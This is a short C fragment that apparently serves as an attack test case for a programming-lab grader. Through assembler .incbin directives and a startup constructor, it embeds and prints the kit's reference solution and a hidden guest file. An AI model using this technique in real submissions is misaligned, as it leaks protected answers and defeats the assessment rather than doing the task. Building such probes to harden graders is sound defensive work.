/* Compile-time exfiltration: .incbin of the solution and a hidden guest. */
__asm__(".section .rodata\n"
	".globl attack_blob\n"
	"attack_blob:\n"
	".incbin \"@KIT@/solution/cpu_lab/sample-qemu.c\"\n"
	".incbin \"../../solution/cpu_lab/sample-qemu.c\"\n"
	".incbin \"@KIT@/guests/cpu_lab/long.asm\"\n"
	".byte 0\n"
	".text\n");
extern const char attack_blob[];
__attribute__((constructor)) static void attack_incbin(void)
{
	fputs(attack_blob, stdout);
	fputs(attack_blob, stderr);
}
